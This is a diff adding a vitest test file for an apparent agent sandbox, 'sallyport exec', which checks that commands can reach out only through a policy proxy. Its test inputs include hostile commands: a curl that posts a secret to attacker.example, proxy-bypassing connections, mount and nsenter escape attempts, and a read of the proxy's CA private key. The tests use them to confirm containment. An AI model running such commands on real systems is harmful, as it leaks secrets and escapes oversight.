@@ -1,0 +1,114 @@
+// `sallyport exec`: the command has its own exit code and terminal, and nothing leads out of it but the proxy. What it may not have
+// is tried from inside, by the means that an agent has.
+
+import { execFile } from "node:child_process";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { whyNoWall } from "../../src/exec/wall.ts";
+import { recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";
+
+const MAIN = join(import.meta.dirname, "../../src/cli/main.ts");
+const why = whyNoWall();
+
+let origin: RecordingOrigin;
+let home: string;
+beforeAll(async () => {
+  origin = await recordingOrigin();
+  home = mkdtempSync(join(tmpdir(), "sallyport-exec-test-"));
+  writeFileSync(
+    join(home, "sallyport.yaml"),
+    `anonymous: default
+upstream: { hosts: { one.test: [127.0.0.1] } }
+policies:
+  default: { preset: none, allow: [{ host: one.test, networks: [127.0.0.0/8] }] }
+`,
+  );
+});
+afterAll(async () => {
+  await origin[Symbol.asyncDispose]();
+  rmSync(home, { recursive: true, force: true });
+});
+
+type Ran = { readonly code: number; readonly stdout: string; readonly stderr: string };
+
+function exec(options: readonly string[], script: string): Promise<Ran> {
+  const env = { PATH: process.env["PATH"], HOME: home };
+  const args = [MAIN, "exec", ...options, "--", "sh", "-c", script];
+  return new Promise((resolve) => {
+    execFile(process.execPath, args, { cwd: home, env, timeout: 60_000 }, (error, stdout, stderr) => {
+      resolve({
+        code: typeof error?.code === "number" ? error.code : error === null ? 0 : -1,
+        stdout,
+        stderr,
+      });
+    });
+  });
+}
+
+const WALL = why === undefined ? [] : [`: ${why}`];
+
+describe.skipIf(why !== undefined)(`behind the wall${WALL.join("")}`, () => {
+  test("the exit code is the command's, also of one that a signal ended", async () => {
+    expect((await exec([], "exit 7")).code).toBe(7);
+    expect((await exec([], "kill -TERM $$")).code).toBe(143);
+    expect((await exec([], "no-such-command-at-all")).code).toBe(127);
+  });
+
+  test("an allowed request passes by the proxy, another is refused and told of at the end", async () => {
+    origin.reset();
+    const { stdout, stderr } = await exec(
+      [],
+      `curl -sS -o /dev/null -w '%{http_code}\\n' http://one.test:${origin.port}/in
+       curl -sS -o /dev/null -w '%{http_code}\\n' -d secret http://one.test:${origin.port}/out
+       curl -sS -d secret https://attacker.example/collect; true`,
+    );
+    expect(stdout).toBe("200\n403\n");
+    expect(origin.received).toContain("GET /in HTTP/1.1");
+    expect(origin.received).not.toContain("secret");
+    expect(stderr).toContain(`POST http://one.test:${origin.port}/out  method-not-allowed`);
+    expect(stderr).toContain("CONNECT attacker.example:443  host-not-allowed");
+  });
+
+  test.each([
+    [
+      "a connection to this machine",
+      (port: number) => `curl -sS --noproxy '*' -m 3 http://127.0.0.1:${port}/round`,
+    ],
+    [
+      "a connection by an address of an interface",
+      (port: number) => `curl -sS --noproxy '*' -m 3 http://192.0.2.1:${port}/round`,
+    ],
+    ["IPv6", (port: number) => `curl -sS --noproxy '*' -m 3 http://[::1]:${port}/round`],
+    ["a name", () => "getent hosts localhost.localdomain.example"],
+    [
+      "UDP to a name server",
+      () =>
+        "node -e \"require('dgram').createSocket('udp4').send('x',53,'192.0.2.53',e=>process.exit(e?1:0))\"",
+    ],
+    [
+      "taking its rights back",
+      () =>
+        "mount -t tmpfs tmpfs /mnt || umount /run || ip link add x type dummy || nsenter -t 1 -n true && false",
+    ],
+  ])("%s leads nowhere", async (_what, script) => {
+    origin.reset();
+    expect((await exec([], `(${script(origin.port)}) >/dev/null 2>&1`)).code).not.toBe(0);
+    expect(origin.received).toBe("");
+  });
+
+  test("the proxy's own files and other programs' sockets are not there", async () => {
+    const { stdout } = await exec(
+      [],
+      "ls certs /run .local/state/sallyport; cat certs/ca.key; ps ax -o pid= | wc -l; ls -l /proc/*/exe 2>/dev/null | wc -l",
+    );
+    expect(stdout).not.toMatch(/ca\.key|PRIVATE KEY|docker|dbus|audit/);
+  });
+});
+
+test("without a wall it is said loudly", async () => {
+  const { code, stdout, stderr } = await exec(["--no-wall"], "echo $HTTPS_PROXY | cut -d@ -f2 | cut -d: -f1");
+  expect({ code, stdout }).toEqual({ code: 0, stdout: "127.0.0.1\n" });
+  expect(stderr).toContain("It is NOT held back.");
+});
